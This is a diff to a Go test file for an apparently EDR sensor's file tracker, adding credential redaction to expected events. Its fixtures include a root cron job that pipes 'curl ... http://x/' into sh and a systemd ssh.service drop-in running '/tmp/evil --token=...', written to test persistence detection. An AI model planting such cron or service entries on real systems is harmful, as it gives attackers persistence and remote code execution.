@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/picket-edr/picket/sensor/redact"
 )
 
 // world is a tree of files and a tracker of it.
@@ -22,6 +23,18 @@ type world struct {
 }
 
 const passwd = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/sh\npostgres:x:110:115::/var/lib/postgresql:/bin/bash\n"
+
+// hide redacts as the sensor does.
+func hide(t testing.TB) func(string) string {
+	r, err := redact.New(redact.Policy{}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return func(s string) string {
+		s, _ = r.Text(redact.Script, s)
+		return s
+	}
+}
 
 // newWorld lays out files, path and content by turns, and takes the baseline.
 func newWorld(t *testing.T, files ...string) *world {
@@ -37,7 +50,7 @@ func newWorld(t *testing.T, files ...string) *world {
 	}
 	t.Cleanup(func() { tree.Close() })
 	w.tree = tree
-	w.Tracker = NewTracker(tree, math.MaxInt64)
+	w.Tracker = NewTracker(tree, math.MaxInt64, hide(t))
 	w.Baseline(func() bool { return false })
 	if !w.complete {
 		t.Fatal("the baseline is not complete")
@@ -124,8 +137,8 @@ func TestLifeOfAFile(t *testing.T) {
 	w := newWorld(t, "/etc/cron.d/old", "# old\n5 * * * * root /bin/old\n")
 	const name = "/etc/cron.d/new"
 	e := w.want(w.wrote(Created, name, "SHELL=/bin/sh\n*/5 * * * * root curl -u me:hunter2 http://x/ | sh\n"), "ScheduledTaskCreated "+name)[0]
-	w.field(e, "Added", []string{"SHELL=/bin/sh", "*/5 * * * * root curl -u me:*** http://x/ | sh"})
-	w.field(e, "Tasks", []cronTask{{"*/5 * * * *", "root", "curl -u me:*** http://x/ | sh"}})
+	w.field(e, "Added", []string{"SHELL=/bin/sh", "*/5 * * * * root curl -u me:[redacted] http://x/ | sh"})
+	w.field(e, "Tasks", []cronTask{{"*/5 * * * *", "root", "curl -u me:[redacted] http://x/ | sh"}})
 	w.field(e, "AttackTechnique", "T1053.003")
 	w.field(e, "PreviousKnown", nil)
 	if e.File.Size == 0 || e.File.Ino == 0 {
@@ -172,7 +185,7 @@ func TestFolders(t *testing.T) {
 	const dir = "/etc/systemd/system/ssh.service.d"
 	w.must(os.MkdirAll(w.file("/etc/systemd/system"), 0o755))
 	e := w.want(w.moved("/tmp/d", dir), "ServiceInstalled "+dir+"/override.conf")[0]
-	w.field(e, "ExecStartPre", "/tmp/evil --token=***")
+	w.field(e, "ExecStartPre", "/tmp/evil --token=[redacted]")
 	w.field(e, "ServiceName", "ssh.service")
 	w.field(e, "DropIn", "override.conf")
 	w.want(w.moved(dir, "/tmp/d"), "ServiceDeleted "+dir+"/override.conf")
@@ -321,13 +334,13 @@ func TestUnreadable(t *testing.T) {
 func TestBaselineLeavesOutWhatIsStillToCome(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, "/etc/crontab", "1 * * * * root a\n")
-	tr := NewTracker(w.tree, 0)
+	tr := NewTracker(w.tree, 0, hide(t))
 	tr.Baseline(func() bool { return false })
 	events := tr.Apply(&Change{Op: Modified, Path: "/etc/crontab", Tree: w.tree})
 	w.want(events, "ScheduledTaskUpdated /etc/crontab")
 	w.field(events[0], "PreviousKnown", false)
 	w.field(events[0], "Tasks", []cronTask{{"1 * * * *", "root", "a"}})
-	stopped := NewTracker(w.tree, math.MaxInt64)
+	stopped := NewTracker(w.tree, math.MaxInt64, hide(t))
 	stopped.Baseline(func() bool { return true })
 	if stopped.complete {
 		t.Error("a baseline that was stopped is complete")
